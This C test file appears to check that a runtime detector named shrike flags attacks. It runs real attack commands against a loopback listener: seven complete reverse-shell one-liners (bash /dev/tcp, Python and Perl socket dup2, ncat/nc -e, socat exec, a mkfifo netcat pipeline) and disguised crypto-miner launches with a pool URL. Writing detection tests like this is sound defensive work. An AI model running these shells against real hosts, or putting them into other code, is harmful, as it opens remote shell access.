/* SPDX-License-Identifier: Apache-2.0 */
/*
 * System tier for shrike's own rules (rules/shrike_rules.yaml): every
 * reverse-shell variant and miner trick is run for real against a loopback
 * listener while `shrike run --json` watches, and must raise its rule.
 * Detection only: the enforcing policies are tested with the response
 * engine. Needs root (exit 77 otherwise).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cmocka.h>

#include "runlib.h"
#include "testlib.h"

static struct {
	char *dir;
	int port;
	struct shrike_run run;
} T;

static int group_setup(void **state)
{
	const char *src = test_env("SHRIKE_SOURCE");
	char rules[1024];
	const char *args[] = { "--policy", rules, NULL };

	snprintf(rules, sizeof(rules), "%s/rules/shrike_rules.yaml", src);
	T.dir = test_tmpdir();
	T.port = test_attacker_listener();
	shrike_run_start(&T.run, T.dir, args);

	test_attack(T.dir, "bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1'", T.port);
	test_attack(T.dir, "python3 -c 'import socket,subprocess,os;s=socket.socket();"
	       "s.connect((\"127.0.0.1\",%d));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
	       "os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'", T.port);
	test_attack(T.dir, "perl -e 'use Socket;$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
	       "if(connect(S,sockaddr_in($p,inet_aton(\"127.0.0.1\")))){open(STDIN,\">&S\");"
	       "open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'", T.port);
	test_attack(T.dir, "ncat -e /bin/sh 127.0.0.1 %d", T.port);
	test_attack(T.dir, "nc.traditional -e /bin/sh 127.0.0.1 %d", T.port);
	test_attack(T.dir, "socat tcp:127.0.0.1:%d exec:/bin/sh", T.port);
	test_attack(T.dir, "rm -f %s/f; mkfifo %s/f; cat %s/f | /bin/sh -i 2>&1 | nc 127.0.0.1 %d > %s/f",
	       T.dir, T.dir, T.dir, T.port, T.dir);
	/* a "miner": a copy of sleep named xmrig, and a renamed copy with a
	 * pool URL in its arguments */
	test_attack(T.dir, "cp /bin/sleep %s/xmrig && %s/xmrig 0.1", T.dir, T.dir);
	test_attack(T.dir, "cp /bin/sleep %s/kworker-x && %s/kworker-x 0.1 --url stratum+tcp://pool.invalid:3333 "
	       "2>/dev/null; true", T.dir, T.dir);

	shrike_run_stop(&T.run);
	*state = NULL;
	return 0;
}

static int group_teardown(void **state)
{
	shrike_run_free(&T.run);
	return 0;
}

#define FIND(rule, field, needle) shrike_run_find(&T.run, rule, field, needle)
#define OF(a, k) shrike_json_str(cJSON_GetObjectItemCaseSensitive(a, "output_fields"), k)

static void test_bash_dev_tcp(void **state)
{
	const cJSON *a = FIND("Reverse shell", "proc.cmdline", "bash -i");

	assert_non_null(a);
	assert_string_equal(OF(a, "proc.stdin.type"), "ipv4");
	assert_string_equal(shrike_json_str(a, "priority"), "Critical");
	assert_non_null(FIND("Reverse shell through a named pipe", "proc.cmdline", "/dev/tcp/127.0.0.1"));
}

static void test_python_dup2(void **state)
{
	assert_non_null(FIND("Socket duplicated onto standard streams", "proc.name", "python3"));
	assert_non_null(FIND("Reverse shell", "proc.pname", "python3"));
}

static void test_perl_one_liner(void **state)
{
	assert_non_null(FIND("Socket duplicated onto standard streams", "proc.name", "perl"));
	assert_non_null(FIND("Reverse shell", "proc.cmdline", "sh -i"));
}

static void test_ncat_exec(void **state)
{
	/* ncat relays the program's stdio through pipes, not the socket:
	 * only the command-execution rule can see it */
	assert_non_null(FIND("Netcat or socat with command execution", "proc.cmdline", "ncat -e"));
}

static void test_nc_traditional_exec(void **state)
{
	assert_non_null(FIND("Netcat or socat with command execution", "proc.cmdline", "nc.traditional -e"));
	/* nc.traditional hands the socket itself to the shell */
	assert_non_null(FIND("Reverse shell", "proc.pcmdline", "nc.traditional -e"));
}

static void test_socat_exec(void **state)
{
	assert_non_null(FIND("Netcat or socat with command execution", "proc.cmdline", "exec:/bin/sh"));
}

static void test_mkfifo_pipeline(void **state)
{
	assert_non_null(FIND("Reverse shell through a named pipe", "proc.cmdline", "nc 127.0.0.1"));
}

static void test_miner_by_name(void **state)
{
	assert_non_null(FIND("Crypto miner started", "proc.exepath", "/xmrig"));
}

static void test_renamed_miner_by_pool_url(void **state)
{
	assert_non_null(FIND("Mining pool protocol in arguments", "proc.exepath", "/kworker-x"));
}

static void test_no_drops(void **state)
{
	assert_non_null(strstr(T.run.summary, "drops=0 "));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_bash_dev_tcp),	      cmocka_unit_test(test_python_dup2),
		cmocka_unit_test(test_perl_one_liner),	      cmocka_unit_test(test_ncat_exec),
		cmocka_unit_test(test_nc_traditional_exec),   cmocka_unit_test(test_socat_exec),
		cmocka_unit_test(test_mkfifo_pipeline),	      cmocka_unit_test(test_miner_by_name),
		cmocka_unit_test(test_renamed_miner_by_pool_url), cmocka_unit_test(test_no_drops),
	};

	test_require_root("the system tier (loads BPF sensors)");
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
